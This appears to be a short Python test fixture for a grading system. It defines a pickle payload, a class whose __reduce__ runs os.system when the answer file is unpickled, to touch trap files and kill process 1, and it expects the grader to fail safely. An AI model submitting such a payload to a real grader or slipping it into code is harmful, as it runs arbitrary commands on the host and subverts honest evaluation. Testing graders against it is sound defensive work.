"""An answer that runs code when it is opened."""


# expects: fail crashed
class Trap:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/trap COURSE/trap; kill -9 1') and 0",)


predictions = {"both_send_first": Trap()}
